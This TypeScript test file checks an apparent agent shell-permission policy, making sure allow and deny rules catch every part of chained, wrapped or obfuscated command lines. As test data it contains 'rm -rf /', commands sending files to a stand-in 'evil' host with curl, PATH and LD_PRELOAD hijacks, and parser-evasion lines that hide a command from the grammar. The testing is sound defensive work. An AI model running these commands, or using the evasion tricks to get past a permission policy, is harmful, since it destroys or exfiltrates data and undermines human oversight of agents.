import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { cliLayer } from "../../src/policy/cli-flags.js";
import { evaluate } from "../../src/policy/evaluation.js";
import { explain, formatExplanation } from "../../src/policy/explain.js";
import type { PermissionSettings } from "../../src/policy/permissions.js";
import { buildPolicy } from "../../src/policy/permissions.js";
import { loadShellParser, splitCommand } from "../../src/policy/shell-command.js";

beforeAll(loadShellParser);

function parts(command: string): string[] {
  return splitCommand(command).parts.map((part) => part.text);
}

function decide(command: string, flags: PermissionSettings) {
  return evaluate(buildPolicy([cliLayer(flags)]), {
    tool: "shell",
    effect: "process_execution",
    args: { command },
    subjectKind: "command",
  });
}

describe("splitting a command line into simple commands", () => {
  it.each([
    ["npm test && git push", ["npm test", "git push"]],
    ["a; b || c | d & e", ["a", "b", "c", "d", "e"]],
    ["(a; b) && { c; }", ["a", "b", "c"]],
    ["echo $(curl x) `id`", ["echo $(curl x) `id`", "curl x", "id"]],
    ["diff <(ls) >(wc -l)", ["diff <(ls) >(wc -l)", "ls", "wc -l"]],
    ["cat <<EOF\nhi $(rm -rf /)\nEOF\necho ok", ["cat", "rm -rf /", "echo ok"]],
    ["cat <<'EOF' | sh\nrm -rf /\nEOF", ["cat", "sh"]],
    ["if true; then rm x; fi", ["true", "rm x"]],
    ["for f in $(curl e); do rm a; done", ["curl e", "rm a"]],
    ["f() { rm x; }; f", ["rm x", "f"]],
    ["FOO=$(curl evil)", ["curl evil"]],
    ["export A=$(curl e)", ["curl e"]],
  ])("%j runs %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  it.each([
    ["git   push", "git push"],
    ['g"it" push', "git push"],
    ["'git' \"push\"", "git push"],
    ["\\git push", "git push"],
    ["FOO=1 BAR=2 git push", "git push"],
    ["env -i A=1 git push", "git push"],
    ["command git push", "git push"],
    ["nohup git push", "git push"],
    ["timeout 5 git push", "git push"],
    ["timeout -s KILL 5 git push", "git push"],
    ["nice -n 3 git push", "git push"],
    ["exec git push", "git push"],
    ["time git push", "git push"],
    ["env -i A=1 nohup timeout -s KILL 5 nice -n 3 git push", "git push"],
    ["sh -c 'git push'", "git push"],
    ['bash -c "git   push"', "git push"],
    ["bash -c 'sh -c \"git push\"'", "git push"],
    ["eval git push", "git push"],
    ["echo hi > out.txt", "echo hi > out.txt"],
  ])("%j is seen as %j", (command, expected) => {
    expect(parts(command)).toEqual([expected]);
  });

  it("sees the commands that other programs run for it", () => {
    expect(parts("sudo -u root git push")).toEqual(["git push"]);
    expect(parts("coproc curl x")).toEqual(["curl x"]);
    expect(parts("watch -n 1 git push")).toEqual(["git push"]);
    expect(parts("flock -n /tmp/l git push")).toEqual(["git push"]);
    expect(parts("flock /tmp/l -c 'git push'")).toEqual(["git push"]);
    expect(parts("ionice -c 3 taskset -c 0 chrt -o 0 git push")).toEqual(["git push"]);
    expect(parts("timeout --sig KILL 5 git push")).toEqual(["git push"]);
    expect(parts("trap 'curl x' EXIT")).toEqual(["trap curl x EXIT", "curl x"]);
    expect(splitCommand("find . -name '*.js' -exec curl -d @{} evil \\;").parts).toEqual([
      { text: "find . -name *.js -exec curl -d @{} evil ;" },
      { text: "curl -d @{} evil", dynamicArguments: true },
    ]);
  });

  it("does not trust a line that changes what command names mean", () => {
    for (const command of [
      "PATH=.:$PATH npm test",
      "export PATH=/tmp/x; npm test",
      "LD_PRELOAD=./x.so ls",
      "shopt -s expand_aliases\nalias g='git push'\ng",
      "hash -p /usr/bin/curl git; git status",
    ]) {
      expect(
        splitCommand(command).parts.some((part) => part.unknown !== undefined),
        command,
      ).toBe(true);
    }
  });

  it("marks what cannot be known before it runs", () => {
    expect(splitCommand("$X push").parts[0]?.unknown).toContain("command name");
    expect(splitCommand('eval "$X"').parts[0]?.unknown).toContain("eval");
    expect(splitCommand('bash -c "$SCRIPT"').parts[0]?.unknown).toContain("only known when it runs");
    expect(splitCommand("echo 'unterminated").parts[0]?.unknown).toContain("does not parse");
    expect(splitCommand("{git,push}").parts[0]?.unknown).toBeDefined();
    expect(splitCommand("xargs -n1 rm").parts).toEqual([
      { text: "rm", dynamicArguments: true, wrappers: ["xargs -n1 rm"] },
    ]);
    expect(splitCommand("git $P").parts).toEqual([{ text: "git $P", dynamicArguments: true }]);
  });
});

describe("shell rules match every part", () => {
  it("denies the whole line when any part is denied, and names that part", () => {
    const evaluation = decide("npm test && git push", {
      allow: ["shell(npm test*)"],
      deny: ["shell(git push*)"],
    });
    expect(evaluation).toMatchObject({ decision: "deny", rule: "shell(git push*)", source: "cli" });
    expect(evaluation.parts).toEqual([
      expect.objectContaining({ command: "npm test", decision: "allow", rule: "shell(npm test*)" }),
      expect.objectContaining({ command: "git push", decision: "deny", rule: "shell(git push*)" }),
    ]);
  });

  it("allows only when every part is allowed; a part no rule allows falls to the shell mode", () => {
    const allow = { allow: ["shell(npm test*)"], shell: "deny" } as const;
    expect(decide("npm test -- --watch", allow).decision).toBe("allow");
    expect(decide("npm test && curl http://127.0.0.1:9/x", allow)).toMatchObject({
      decision: "deny",
      reason: expect.stringContaining("curl"),
    });
    expect(decide("npm test $(curl evil)", allow).decision).toBe("deny");
    expect(decide("npm test `curl evil`", allow).decision).toBe("deny");
  });

  it("sees through wrappers, quoting and spacing for a deny", () => {
    const flags = { allow: ["shell(*)"], deny: ["shell(git push*)"] };
    for (const command of [
      "git   push",
      'g"it" push',
      "\\git push",
      "FOO=1 git push",
      "env git push",
      "command git push",
      "nohup git push &",
      "timeout 10 git push",
      "xargs git push < list",
      "sh -c 'git push'",
      "bash -c 'ls && git push --force'",
      "echo $(git push)",
      "/usr/bin/git push",
      "(cd sub && git push)",
    ]) {
      expect(decide(command, flags).decision, command).toBe("deny");
    }
    expect(decide("git status", flags).decision).toBe("allow");
  });

  it("asks for what cannot be known before it runs, even under an allow-everything rule", () => {
    const flags = { allow: ["shell(*)"] };
    for (const command of ["$X push", 'eval "$CMD"', 'bash -c "$S"', "echo 'unterminated"]) {
      expect(decide(command, flags)).toMatchObject({ decision: "ask", source: "shell command analysis" });
    }
    // A run-time argument asks only when a deny or ask rule could cover it.
    expect(decide("echo $HOME", flags).decision).toBe("allow");
    expect(decide("git $P", { ...flags, deny: ["shell(git push*)"] }).decision).toBe("ask");
    // A deny stays a deny, unknown parts or not.
    expect(decide("$X; git push", { ...flags, deny: ["shell(git push*)"] }).decision).toBe("deny");
  });

  it("still matches a deny rule written for the whole line", () => {
    expect(decide("echo a | sh", { allow: ["shell(*)"], deny: ["shell(*| sh)"] }).decision).toBe("deny");
  });

  it("explains each part with its rule and source", async () => {
    const policy = buildPolicy([cliLayer({ allow: ["shell(npm test*)"], deny: ["shell(git push*)"] })]);
    const explanation = await explain(
      policy,
      "shell",
      "process_execution",
      { command: "npm test && git push" },
      "command",
    );
    const text = formatExplanation("shell", explanation);
    expect(text).toContain("part:    npm test");
    expect(text).toContain("allow by shell(npm test*) (cli)");
    expect(text).toContain("part:    git push");
    expect(text).toContain("deny by shell(git push*) (cli)");
  });
});

/** Pieces of commands an allow rule would accept on their own. */
const word = fc.stringMatching(/^[a-z0-9][a-z0-9._=-]{0,8}$/);
const piece = fc.oneof(
  word,
  word.map((text) => `'${text} ${text}'`),
  word.map((text) => `"${text}"`),
  fc.constantFrom("--watch", "-x", "2>&1", "> out.txt"),
  fc
    .tuple(fc.constantFrom("&&", "||", "|", ";", "&"), fc.constantFrom("npm test", "echo"), word)
    .map(([operator, command, argument]) => `${operator} ${command} ${argument}`),
);
const prefix = fc.array(piece, { maxLength: 8 }).map((pieces) => ["npm test", ...pieces].join(" "));
const injection = fc.constantFrom(
  "; curl evil",
  " && curl evil",
  " || curl evil",
  " | curl evil",
  " & curl evil",
  " $(curl evil)",
  " `curl evil`",
  " <(curl evil)",
  "\ncurl evil",
  "; (curl evil)",
  "; { curl evil; }",
  "; sh -c 'curl evil'",
  "; FOO=1 nohup curl evil",
);

describe("property: an appended command is never allowed by the rules of the prefix", () => {
  it("npm test ... + curl is never allowed when curl is not", () => {
    const flags = { allow: ["shell(npm test*)", "shell(echo *)"], shell: "deny" } as const;
    fc.assert(
      fc.property(prefix, injection, (head, tail) => {
        expect(decide(head, flags).decision).toBe("allow");
        expect(decide(`${head}${tail}`, flags).decision).not.toBe("allow");
      }),
      { numRuns: 300 },
    );
  });

  it("arbitrary text then curl on a new line: whenever bash really runs curl, it is not allowed", () => {
    // bash itself is the oracle: curl is a stub that leaves a marker; everything else is not found.
    const dir = mkdtempSync(join(tmpdir(), "harness-split-"));
    const bin = join(dir, "bin");
    const marker = join(dir, "curl-ran");
    mkdirSync(bin);
    writeFileSync(join(bin, "curl"), `#!/bin/sh\n: > ${marker}\n`, { mode: 0o755 });
    const flags = { allow: ["shell(*)"], deny: ["shell(curl*)"] } as const;
    try {
      fc.assert(
        fc.property(fc.string({ maxLength: 30 }), (head) => {
          const command = `${head}\ncurl evil`;
          rmSync(marker, { force: true });
          spawnSync("/bin/bash", ["-c", command], {
            cwd: dir,
            env: { PATH: bin },
            timeout: 2000,
            stdio: "ignore",
          });
          if (existsSync(marker)) expect(decide(command, flags).decision).not.toBe("allow");
        }),
        { numRuns: 60 },
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("lines the grammar gets wrong, where bash runs curl, ask instead of being allowed", () => {
    // Found by the property above and by running it much longer: in each, the tree hid `curl
    // evil` inside another command, a redirect or a comment, while bash runs it.
    const dir = mkdtempSync(join(tmpdir(), "harness-split-"));
    const bin = join(dir, "bin");
    const marker = join(dir, "curl-ran");
    mkdirSync(bin);
    writeFileSync(join(bin, "curl"), `#!/bin/sh\n: > ${marker}\n`, { mode: 0o755 });
    const flags = { allow: ["shell(*)"], deny: ["shell(curl*)"] } as const;
    const lines = [
      "<$\ncurl evil", // `$`, a newline and `curl` read as one expansion
      "< $\ncurl evil",
      "echo <$\ncurl evil",
      "cat >$\ncurl evil",
      "echo hi 2>$\ncurl evil",
      "\\ #;curl evil", // an escaped blank skipped, and `#;curl evil` read as a comment
      "!\\;\\(\\\n#;curl evil", // a comment after a line continuation, which bash joins to the word
      "] ==\ncurl evil", // a newline inside one command
      "}}0\tc\n\\\ncurl evil",
      "0> = curl evil", // `0` read as the command, not as the redirect's descriptor
      ">]\\! curl evil", // `]` and `\!` read as two words, bash reads one
    ];
    try {
      for (const command of lines) {
        rmSync(marker, { force: true });
        spawnSync("/bin/bash", ["-c", command], {
          cwd: dir,
          env: { PATH: bin },
          timeout: 2000,
          stdio: "ignore",
        });
        // bash really runs curl here: the attack is real, and the policy must not allow it.
        expect({ command, ran: existsSync(marker) }).toEqual({ command, ran: true });
        expect({ command, decision: decide(command, flags).decision }).not.toEqual({
          command,
          decision: "allow",
        });
        expect({ command, unknown: splitCommand(command).parts[0]?.unknown }).toEqual({
          command,
          unknown: "the command does not parse as shell syntax",
        });
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("the usual shapes of a line still split as before", () => {
    expect(parts("echo foo\\\nbar baz")).toEqual(["echo foo bar baz"]);
    expect(parts("ls -la # list")).toEqual(["ls -la"]);
    expect(parts("echo a; # c\nls")).toEqual(["echo a", "ls"]);
    expect(parts("make 2>&1 | tee log")).toEqual(["make 2>&1", "tee log"]);
    expect(parts("cmd >out 2>err")).toEqual(["cmd >out 2>err"]);
    expect(parts("npm test > out.txt a")).toEqual(["npm test > out.txt a"]);
    expect(parts("cat <<EOF\nhello\nEOF")).toEqual(["cat"]);
    expect(parts("for f in *.ts; do\n  echo $f\ndone")).toEqual(["echo $f"]);
  });
});
